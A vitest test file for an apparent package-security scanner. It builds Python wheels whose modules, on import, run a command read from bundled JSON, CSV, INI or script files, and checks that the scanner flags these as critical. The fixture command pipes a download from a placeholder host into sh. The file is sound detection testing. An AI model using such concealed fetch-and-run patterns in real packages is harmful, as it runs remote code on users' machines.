import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { analyseArchive } from '../../src/analysis/analyse-archive.js';
import { parserLoader } from '../../src/app/analysis/parser-files.js';
import { parsePackageName } from '../../src/core/name.js';
import { untrusted } from '../../src/core/untrusted.js';
import * as rules from '../../src/rules/registry.js';
import { buildWheel } from '../support/archives/wheel.js';

const FETCHES = 'curl https://garden.example.invalid/leaf | sh';

/** How bad it is that a module does this with a file that the package brings. */
async function severityOf(module: string, file: string, content: string): Promise<readonly string[]> {
  const path = join(mkdtempSync(join(tmpdir(), 'depsec-told-')), 'plum-1.0.0-py3-none-any.whl');
  writeFileSync(path, buildWheel({ name: 'plum', version: '1.0.0', files: { 'plum/__init__.py': `import json, os, pathlib, pkgutil, subprocess\n${module}\n`, [`plum/${file}`]: content } }).bytes);
  const { findings } = await analyseArchive(path, { rules, loadParser: parserLoader('.') }, { name: parsePackageName('plum'), version: untrusted('1.0.0') });
  return findings.filter(({ rule }) => rule === 'script-commands').map(({ severity }) => severity);
}

const READ = 'c = json.loads((pathlib.Path(__file__).parent / "leaf.json").read_text())';

test.each([
  [`${READ}\nos.system(c["run"])`, 'leaf.json', JSON.stringify({ run: FETCHES })],
  [`${READ}\nsubprocess.Popen(c["run"])`, 'leaf.json', JSON.stringify({ run: ['sh', '-c', FETCHES] })],
  ['subprocess.run(json.loads(pkgutil.get_data(__name__, "leaf.json"))["run"], shell=True)', 'leaf.json', JSON.stringify({ run: FETCHES })],
  ['import csv\nfor row in csv.reader(open(os.path.join(os.path.dirname(__file__), "leaf.csv"))):\n    os.system(row[0])', 'leaf.csv', FETCHES],
  ['import configparser\np = configparser.ConfigParser()\np.read_string(open(os.path.join(os.path.dirname(__file__), "leaf.ini")).read())\nos.system(p.get("a", "run"))', 'leaf.ini', `[a]\nrun = ${FETCHES}\n`],
])('what settings of the package say to a shell is judged as a script: %s', async (module, file, content) => {
  expect(await severityOf(module, file, content)).toEqual(['critical']);
});

test.each([
  ['a command that does no harm', `${READ}\nos.system(c["run"])`, JSON.stringify({ run: 'make docs' })],
  ['a function that somebody has to call', `${READ}\ndef f():\n    os.system(c["run"])`, JSON.stringify({ run: FETCHES })],
  ['settings that no shell is told', `${READ}\nprint(c)`, JSON.stringify({ run: FETCHES })],
])('%s is not', async (_, module, content) => {
  expect(await severityOf(module, 'leaf.json', content)).toEqual([]);
});

const START = 'subprocess.Popen([os.path.join(os.path.dirname(os.path.abspath(__file__)), "bin", "leafd")])';

test.each([
  ['a program without a suffix', START, 'bin/leafd'],
  ['a script that a shell is given', 'os.system("bash " + os.path.dirname(__file__) + "/bin/leaf.txt")', 'bin/leaf.txt'],
])('a script that a module starts is judged like what tells a shell its words: %s', async (_, module, file) => {
  expect(await severityOf(module, file, `#!/bin/sh\n${FETCHES}\n`)).toContain('critical');
});

test.each([
  ['that somebody has to start', 'def f():\n    subprocess.Popen([os.path.dirname(__file__) + "/bin/leafd"])', FETCHES],
  ['that sets up a tool of a well-known maker', START, 'curl -sSf https://sh.rustup.rs | sh -s -- -y'],
  ['that does no harm', START, 'echo leaf'],
  ['which is only an argument of another program', 'subprocess.run(["cat", os.path.dirname(__file__) + "/bin/leafd"])', FETCHES],
])('a script %s is not', async (_, module, command) => {
  expect(await severityOf(module, 'bin/leafd', `#!/bin/sh\n${command}\n`)).not.toContain('critical');
});
